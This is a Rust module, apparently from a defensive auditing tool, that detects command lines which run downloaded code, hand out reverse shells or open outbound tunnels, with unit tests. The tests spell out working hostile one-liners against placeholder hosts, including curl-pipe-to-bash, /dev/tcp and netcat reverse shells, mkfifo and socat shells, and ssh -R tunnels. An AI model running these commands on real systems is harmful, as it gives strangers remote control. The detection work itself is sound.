//! What a command line does that matters: code from elsewhere, a shell for a stranger, a tunnel.

use std::sync::LazyLock;

use regex::Regex;

use crate::redact::pattern;

/// Options of ssh and autossh that take a value.
const SSH_WITH_VALUE: &str = "BbcDEeFIiJLlMmOoPpQRSWw";

/// Tells whether a command runs code that it downloads.
pub(crate) fn runs_downloaded_code(command: &str) -> bool {
    static PIPED: LazyLock<Regex> = LazyLock::new(|| {
        pattern(
            r"\b(?:curl|wget|fetch|aria2c)\s[^;\n]*?\|\s*(?:(?:sudo|env|nohup|exec)\s+(?:-\S+\s+|\w+=\S+\s+)*)?(?:/\S*/)?(?:(?:ba|da|z|k|a)?sh|python[\d.]*|perl|ruby|php|node)(?:\s|$|[;&|)\x22'])",
        )
    });
    static SUBSTITUTED: LazyLock<Regex> = LazyLock::new(|| {
        pattern(
            r"(?:\b(?:ba|da|z|k|a)?sh\s+(?:-\w+\s+)*|\beval\s+|\bsource\s+|(?:^|\s)\.\s+|\bpython[\d.]*\s+(?:-\w+\s+)*)[\x22']?(?:\$\(|`|<\()\s*(?:curl|wget)\b",
        )
    });
    static SAVED: LazyLock<Regex> = LazyLock::new(|| {
        pattern(
            r"\b(?:curl|wget)\s[^;&|\n]*?(?:-[a-zA-Z]*[oO]\s*|--output(?:-document)?[ =]|>\s*)[\x22']?([^\s;&|\x22']+)[\x22']?(.*)",
        )
    });
    static EVALUATED: LazyLock<Regex> =
        LazyLock::new(|| pattern(r"\b(?:exec|eval)\s*\(.*\b(?:urlopen|requests\.get|urllib)"));
    if PIPED.is_match(command) || SUBSTITUTED.is_match(command) || EVALUATED.is_match(command) {
        return true;
    }
    SAVED.captures(command).is_some_and(|found| {
        let (file, rest) = (&found[1], &found[2]);
        let is_sink = file == "/dev/null" || file == "-";
        let runs = |start: &str| rest.contains(&format!("{start}{file}"));
        !is_sink
            && (["sh ", "bash ", "python ", "python3 ", "perl ", "; ", "&& ", "source ", ". "]
                .iter()
                .any(|start| runs(start))
                || rest.contains("chmod ") && rest.contains(file))
    })
}

/// Tells whether a command gives a stranger a shell.
pub(crate) fn gives_a_shell_away(command: &str) -> bool {
    static FORMS: LazyLock<Regex> = LazyLock::new(|| {
        pattern(
            r"(?x)
            \b(?:ba|z|k|da)?sh\s+-i\b[^\n]*/dev/(?:tcp|udp)/
            | exec\s+\d+<>\s*/dev/(?:tcp|udp)/[^\n]*\b(?:sh|eval|while)\b
            | /dev/(?:tcp|udp)/\S+\s+0?[<>]&1\b.*
            | \b(?:nc|ncat|netcat)(?:\.\w+)?\s[^|;\n]*(?:-\w*[ec]\s*|--(?:sh-)?exec[\ =])(?:/\S*/)?(?:ba|da|z)?sh\b
            | \bmkfifo\b[^\n]*\b(?:nc|ncat|netcat|telnet|openssl\s+s_client)\b
            | \bsocat\b[^\n]*\bexec:[^\n]*\b(?:ba|z|da)?sh\b
            | \bpython[\d.]*\s+-c\b[^\n]*\bsocket\b[^\n]*\b(?:dup2|pty\.spawn|subprocess)\b
            | \bperl\b[^\n]*\bSocket\b[^\n]*\bexec\b
            | \bphp\s+-r\b[^\n]*\bfsockopen\b
            | \bruby\s+-rsocket\b[^\n]*\bexec\b",
        )
    });
    FORMS.is_match(command)
}

/// Names the tunnel that a command opens to the outside.
pub(crate) fn tunnel(command: &str) -> Option<&'static str> {
    static PROGRAMS: LazyLock<Vec<(Regex, &'static str)>> = LazyLock::new(|| {
        [
            (r"(?:^|/|\s)cloudflared\s[^|;]*\btunnel\b", "a tunnel of cloudflared"),
            (r"(?:^|/|\s)ngrok\s+(?:start|http|tcp|tls|service)\b", "a tunnel of ngrok"),
            (r"(?:^|/)frpc(?:\s|$)", "a tunnel of frp"),
            (r"(?:^|/|\s)chisel\s+client\b", "a tunnel of chisel"),
            (r"(?:^|/|\s)bore\s+local\b", "a tunnel of bore"),
            (r"(?:^|/)rathole(?:\s|$)", "a tunnel of rathole"),
            (r"(?:^|/)teamviewerd(?:\s|$)", "TeamViewer"),
            (r"(?:^|/)anydesk(?:\s|$)", "AnyDesk"),
            (r"(?:^|/)rustdesk(?:\s|$)", "RustDesk"),
            (r"(?:^|/)gs-netcat(?:\s|$)", "a tunnel of gsocket"),
            (r"(?:^|/)tailscale\s+up\b[^|;]*--auth-?key", "a login to Tailscale"),
        ]
        .map(|(form, name)| (pattern(form), name))
        .into()
    });
    if forwards_back(command) {
        return Some("a tunnel of ssh that opens a port elsewhere");
    }
    PROGRAMS.iter().find(|(form, _)| form.is_match(command)).map(|(_, name)| *name)
}

/// Tells whether a client of ssh opens a port at the other end (`ssh(1)`, option `-R`).
fn forwards_back(command: &str) -> bool {
    let mut words = command.split_whitespace();
    while let Some(word) = words.next() {
        let program = word.rsplit(['/', '@', '"', '\'', ';', '&', '(']).next().unwrap_or_default();
        if program != "ssh" && program != "autossh" {
            continue;
        }
        let mut has_host = false;
        while let Some(word) = words.next() {
            let Some(letters) = word.strip_prefix('-') else {
                // Behind the host stands what runs there.
                if has_host {
                    return false;
                }
                has_host = true;
                continue;
            };
            for (at, letter) in letters.char_indices() {
                if !SSH_WITH_VALUE.contains(letter) {
                    continue;
                }
                let joined = &letters[at + letter.len_utf8()..];
                let value = if joined.is_empty() { words.next().unwrap_or_default() } else { joined };
                let is_setting = value.trim_start_matches(['"', '\'']).starts_with("RemoteForward");
                if letter == 'R' || letter == 'o' && is_setting {
                    return true;
                }
                break;
            }
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn downloads_that_run_are_told_from_downloads_that_lie() {
        for (command, expected) in [
            ("curl -fsSL https://x.example/i.sh | bash", true),
            ("wget -qO- http://x.example/i.sh | sudo -E sh -s -- -y", true),
            ("curl https://x.example/a | base64 -d | /bin/sh", true),
            ("bash -c \"$(curl -fsSL https://x.example/i.sh)\"", true),
            ("bash <(wget -qO- https://x.example/i.sh)", true),
            ("curl -o /tmp/a https://x.example/a && sh /tmp/a", true),
            ("wget https://x.example/a -O /tmp/a; chmod +x /tmp/a; /tmp/a", true),
            ("python3 -c 'exec(urlopen(\"https://x.example\").read())'", true),
            ("curl -fsS https://hc.example/ping > /dev/null", false),
            ("curl -s http://localhost/status | grep -q ok", false),
            ("curl -s https://x.example/list | sort | uniq > /srv/list", false),
            ("wget -q -O /srv/list https://x.example/list && mv /srv/list /srv/list.new", false),
            ("echo 'curl is | a shell'", false),
            ("test -x /usr/sbin/anacron || run-parts /etc/cron.daily", false),
            ("curl -s https://x.example/a | shasum -c", false),
        ] {
            assert_eq!(runs_downloaded_code(command), expected, "{command}");
        }
    }

    #[test]
    fn shells_for_strangers_are_told_from_checks_of_ports() {
        for (command, expected) in [
            ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", true),
            ("nc 203.0.113.5 4444 -e /bin/sh", true),
            ("ncat --exec /bin/bash 203.0.113.5 1", true),
            ("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 1 > /tmp/f", true),
            ("python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'", true),
            ("socat tcp:203.0.113.5:1 exec:'bash -li',pty", true),
            ("timeout 1 bash -c '</dev/tcp/localhost/80'", false),
            ("nc -z localhost 22", false),
            ("mkfifo /run/queue", false),
            ("socat TCP-LISTEN:80,fork TCP:10.0.0.1:80", false),
        ] {
            assert_eq!(gives_a_shell_away(command), expected, "{command}");
        }
    }

    #[test]
    fn tunnels_outwards_are_told_from_clients() {
        for (command, expected) in [
            ("/usr/bin/autossh -M 0 -N -R 2222:localhost:22 x@relay.example", true),
            ("/usr/bin/ssh -o ServerAliveInterval=30 -NR 1:localhost:22 x@relay.example", true),
            ("ssh -N -o RemoteForward=1 x", true),
            ("/usr/bin/cloudflared --no-autoupdate tunnel run", true),
            ("/usr/local/bin/ngrok tcp 22", true),
            ("ssh -L 3306:db:3306 -N x@bastion.example", false),
            ("ssh-keygen -R host", false),
            ("rsync -aR /srv x@y:", false),
            ("/usr/sbin/sshd -D", false),
            ("ssh x@y 'ls -R /'", false),
        ] {
            assert_eq!(tunnel(command).is_some(), expected, "{command}");
        }
    }
}
